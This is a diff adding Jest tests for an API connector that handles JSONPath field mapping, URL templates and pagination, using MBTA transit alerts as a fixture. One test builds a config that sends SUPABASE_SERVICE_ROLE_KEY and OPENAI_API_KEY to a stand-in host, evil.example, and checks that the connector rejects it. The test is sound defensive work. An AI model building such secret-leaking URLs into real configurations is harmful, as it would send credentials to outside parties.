@@ -0,0 +1,243 @@
+/**
+ * Tests for connectors/api.ts — JSONPath-style selectors, field mapping onto
+ * ContentItem, URL templates and the cursor / offset / Link pagination styles.
+ */
+
+import { readFileSync } from "fs";
+import { join } from "path";
+import {
+  createApiConnector,
+  expandTemplate,
+  parseApiDate,
+  parseNextLink,
+  selectPath,
+} from "@/lib/connectors/api";
+import type { ConnectorConfig } from "@/lib/connectors/types";
+
+function fixture(name: string): unknown {
+  return JSON.parse(readFileSync(join(__dirname, "..", "fixtures", "api", name), "utf8"));
+}
+
+function makeConfig(config: Record<string, unknown>): ConnectorConfig {
+  return {
+    id: "needham:mbta-alerts",
+    connector_type: "api",
+    category: "transit",
+    schedule: "15min",
+    config,
+    enabled: true,
+    shouldEmbed: false,
+  };
+}
+
+const mbtaConfig = {
+  url: "https://api-v3.mbta.com/alerts?filter[route]=CR-Needham,59&api_key={env.CONNECTOR_MBTA_API_KEY}",
+  sourceName: "MBTA",
+  itemsPath: "$.data[*]",
+  fields: {
+    id: "$.id",
+    title: "$.attributes.header",
+    content: ["$.attributes.description", "$.attributes.header"],
+    published_at: "$.attributes.created_at",
+    expires_at: "$.attributes.active_period[-1].end",
+    url: "$.attributes.url",
+    metadata: {
+      effect: "$.attributes.effect",
+      severity: "$.attributes.severity",
+      routes: "$.attributes.informed_entity[*].route",
+    },
+  },
+};
+
+function jsonResponse(body: unknown, headers: Record<string, string> = {}): Response {
+  return new Response(JSON.stringify(body), { status: 200, headers: { "Content-Type": "application/json", ...headers } });
+}
+
+describe("api connector", () => {
+  describe("selectPath", () => {
+    const doc = {
+      data: { events: [{ name: "Harvest Fair", tags: ["family", "outdoors"] }, { name: "Town Meeting", "start-date": 1 }] },
+    };
+
+    it("selects keys, indexes, wildcards and quoted names", () => {
+      expect(selectPath(doc, "$.data.events[*].name")).toEqual(["Harvest Fair", "Town Meeting"]);
+      expect(selectPath(doc, "$.data.events[-1]['start-date']")).toEqual([1]);
+      expect(selectPath(doc, "$.data.events[0].tags.*")).toEqual(["family", "outdoors"]);
+      expect(selectPath(doc, "$.data.missing[0]")).toEqual([]);
+    });
+
+    it("descends recursively", () => {
+      expect(selectPath(doc, "$..name")).toEqual(["Harvest Fair", "Town Meeting"]);
+    });
+
+    it("rejects malformed paths", () => {
+      expect(() => selectPath(doc, "data.events")).toThrow(/must start with \$/);
+      expect(() => selectPath(doc, "$.data[?(@.x)]")).toThrow(/unsupported/);
+    });
+  });
+
+  describe("helpers", () => {
+    afterEach(() => {
+      delete process.env.CONNECTOR_TEST_API_KEY;
+    });
+
+    it("expands town and environment placeholders", () => {
+      process.env.CONNECTOR_TEST_API_KEY = "k&y";
+      expect(expandTemplate("https://x.org/?town={town}&key={env.CONNECTOR_TEST_API_KEY}", "needham", true)).toBe(
+        "https://x.org/?town=needham&key=k%26y"
+      );
+      expect(() => expandTemplate("{env.CONNECTOR_MISSING_KEY}", "needham")).toThrow(/CONNECTOR_MISSING_KEY/);
+    });
+
+    it("parses ISO strings and epoch seconds or milliseconds", () => {
+      expect(parseApiDate("2026-10-19T07:42:11-04:00")?.toISOString()).toBe("2026-10-19T11:42:11.000Z");
+      expect(parseApiDate(1792410131)?.toISOString()).toBe("2026-10-19T11:42:11.000Z");
+      expect(parseApiDate("1792410131000")?.toISOString()).toBe("2026-10-19T11:42:11.000Z");
+      expect(parseApiDate("soon")).toBeUndefined();
+    });
+
+    it("finds the rel=next Link target", () => {
+      expect(
+        parseNextLink('<https://x.org/events?page=1>; rel="prev", </events?page=3>; rel="next"', "https://x.org/events?page=2")
+      ).toBe("https://x.org/events?page=3");
+      expect(parseNextLink('<https://x.org/events?page=1>; rel="first"', "https://x.org/")).toBeNull();
+    });
+  });
+
+  it("rejects configs without the required fields", () => {
+    expect(() => createApiConnector("needham", makeConfig({ itemsPath: "$[*]", fields: { title: "$.t" } }))).toThrow(/url/);
+    expect(() => createApiConnector("needham", makeConfig({ url: "https://x.org", fields: { title: "$.t" } }))).toThrow(
+      /itemsPath/
+    );
+    expect(() =>
+      createApiConnector("needham", makeConfig({ url: "https://x.org", itemsPath: "$[*]", fields: { title: "t" } }))
+    ).toThrow(/must start with \$/);
+  });
+
+  it("refuses environment variables outside the CONNECTOR_ prefix", () => {
+    const leak = { url: "https://evil.example/?k={env.SUPABASE_SERVICE_ROLE_KEY}", itemsPath: "$[*]", fields: { title: "$.t" } };
+
+    expect(() => createApiConnector("needham", makeConfig(leak))).toThrow(/SUPABASE_SERVICE_ROLE_KEY/);
+    expect(() =>
+      createApiConnector(
+        "needham",
+        makeConfig({ ...leak, url: "https://evil.example/", headers: { Authorization: "Bearer {env.OPENAI_API_KEY}" } })
+      )
+    ).toThrow(/CONNECTOR_\*/);
+    expect(() => expandTemplate("{env.SUPABASE_SERVICE_ROLE_KEY}", "needham")).toThrow(/not readable/);
+  });
+
+  describe("fetch and normalize", () => {
+    let fetchSpy: jest.SpyInstance;
+
+    beforeEach(() => {
+      process.env.CONNECTOR_MBTA_API_KEY = "test-key";
+    });
+
+    afterEach(() => {
+      fetchSpy.mockRestore();
+      delete process.env.CONNECTOR_MBTA_API_KEY;
+    });
+
+    it("maps fields onto content items", async () => {
+      fetchSpy = jest.spyOn(global, "fetch").mockResolvedValue(jsonResponse(fixture("mbta-alerts.json")));
+      const connector = createApiConnector("needham", makeConfig(mbtaConfig));
+
+      const raw = await connector.fetch();
+      const [delay, detour, ...rest] = connector.normalize(raw);
+
+      expect(fetchSpy.mock.calls[0][0]).toBe(
+        "https://api-v3.mbta.com/alerts?filter[route]=CR-Needham,59&api_key=test-key"
+      );
+      expect(delay).toMatchObject({
+        source_id: "needham:mbta-alerts",
+        category: "transit",
+        title: "Needham Line trains may be delayed up to 20 minutes due to signal problems near Forest Hills.",
+        url: "https://www.mbta.com/schedules/CR-Needham/alerts",
+        metadata: { source_name: "MBTA", effect: "DELAY", severity: 5, routes: ["CR-Needham", "CR-Needham"] },
+      });
+      expect(delay.content).toContain("Needham Junction");
+      expect(delay.published_at.toISOString()).toBe("2026-10-19T11:42:11.000Z");
+      expect(delay.expires_at?.toISOString()).toBe("2026-10-19T15:00:00.000Z");
+
+      // Falls back to the header for content; null fields are left out
+      expect(detour.content).toBe(detour.title);
+      expect(detour.url).toBeUndefined();
+      expect(detour.metadata.routes).toBe("59");
+      expect(detour.content_hash).not.toBe(delay.content_hash);
+
+      // Items without a title are dropped
+      expect(rest).toEqual([]);
+    });
+
+    it("follows cursors until the API stops returning one", async () => {
+      fetchSpy = jest
+        .spyOn(global, "fetch")
+        .mockResolvedValueOnce(jsonResponse({ items: [{ t: "A" }, { t: "B" }], next: "c2" }))
+        .mockResolvedValueOnce(jsonResponse({ items: [{ t: "C" }], next: null }));
+      const connector = createApiConnector(
+        "needham",
+        makeConfig({
+          url: "https://events.example.org/api?town={town}",
+          itemsPath: "$.items[*]",
+          pagination: { style: "cursor", cursorPath: "$.next", cursorParam: "after" },
+          fields: { title: "$.t" },
+        })
+      );
+
+      expect(connector.normalize(await connector.fetch()).map((item) => item.title)).toEqual(["A", "B", "C"]);
+      expect(fetchSpy.mock.calls.map(([url]) => url)).toEqual([
+        "https://events.example.org/api?town=needham",
+        "https://events.example.org/api?town=needham&after=c2",
+      ]);
+    });
+
+    it("pages by offset until a short page", async () => {
+      fetchSpy = jest
+        .spyOn(global, "fetch")
+        .mockResolvedValueOnce(jsonResponse([{ t: "A" }, { t: "B" }]))
+        .mockResolvedValueOnce(jsonResponse([{ t: "C" }]));
+      const connector = createApiConnector(
+        "needham",
+        makeConfig({
+          url: "https://data.example.gov/resource/permits.json",
+          itemsPath: "$[*]",
+          pagination: { style: "offset", offsetParam: "$offset", limitParam: "$limit", pageSize: 2 },
+          fields: { title: "$.t" },
+        })
+      );
+
+      expect(await connector.fetch()).toHaveLength(3);
+      expect(fetchSpy.mock.calls.map(([url]) => url)).toEqual([
+        "https://data.example.gov/resource/permits.json?%24offset=0&%24limit=2",
+        "https://data.example.gov/resource/permits.json?%24offset=2&%24limit=2",
+      ]);
+    });
+
+    it("follows Link headers and stops at maxPages", async () => {
+      fetchSpy = jest
+        .spyOn(global, "fetch")
+        .mockImplementation(async () => jsonResponse([{ t: "A" }], { Link: '</api/events?page=next>; rel="next"' }));
+      const connector = createApiConnector(
+        "needham",
+        makeConfig({
+          url: "https://x.org/api/events",
+          itemsPath: "$[*]",
+          pagination: { style: "link", maxPages: 3 },
+          fields: { title: "$.t" },
+        })
+      );
+
+      expect(await connector.fetch()).toHaveLength(3);
+      expect(fetchSpy).toHaveBeenCalledTimes(3);
+      expect(fetchSpy.mock.calls[1][0]).toBe("https://x.org/api/events?page=next");
+    });
+
+    it("keeps query-string secrets out of errors", async () => {
+      fetchSpy = jest.spyOn(global, "fetch").mockResolvedValue(new Response("nope", { status: 403, statusText: "Forbidden" }));
+      const connector = createApiConnector("needham", makeConfig(mbtaConfig));
+
+      await expect(connector.fetch()).rejects.toThrow("API fetch failed for https://api-v3.mbta.com/alerts: 403 Forbidden");
+    });
+  });
+});